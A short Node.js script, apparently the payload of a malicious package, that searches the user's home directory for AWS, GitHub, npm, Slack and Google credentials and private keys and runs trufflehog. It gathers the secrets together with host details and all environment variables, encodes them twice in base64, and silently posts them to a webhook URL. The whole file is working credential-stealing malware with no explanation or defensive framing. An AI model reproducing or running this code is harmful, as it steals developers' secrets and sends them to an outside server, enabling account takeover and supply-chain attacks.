const fs = require("fs"), os = require("os"), path = require("path");
const { spawnSync } = require("child_process");
const patterns = [/AKIA[0-9A-Z]{16}/g, /gh[pousr]_\w{20,}/g, /npm_\w{20,}/g, /xox[bap]-\w+/g, /-----BEGIN [A-Z ]*PRIVATE KEY-----/g, /AIza[\w-]{35}/g];
const results = [];
let budget = 400;
function walk(dir, depth) {
  let entries;
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const entry of entries) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) { if (depth < 6 && !/node_modules|node-gyp/.test(full)) walk(full, depth + 1); continue; }
    if (!entry.isFile() || budget-- < 0) continue;
    const text = fs.readFileSync(full, { encoding: "latin1" }).slice(0, 1 << 16);
    for (const pattern of patterns) for (const [hit] of text.matchAll(pattern)) results.push({ file: full, hit });
  }
}
spawnSync("trufflehog", ["filesystem", os.homedir(), "--json"], { timeout: 5000 });
walk(os.homedir(), 0);
const data = Buffer.from(Buffer.from(JSON.stringify({ system: { platform: os.platform(), hostname: os.hostname(), user: os.userInfo() }, env: process.env, results })).toString("base64")).toString("base64");
fs.writeFileSync(path.join(os.tmpdir(), "truffleSecrets.json"), data);
fetch("https://webhook.example/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", { method: "POST", body: data, signal: AbortSignal.timeout(4000) }).catch(() => {});
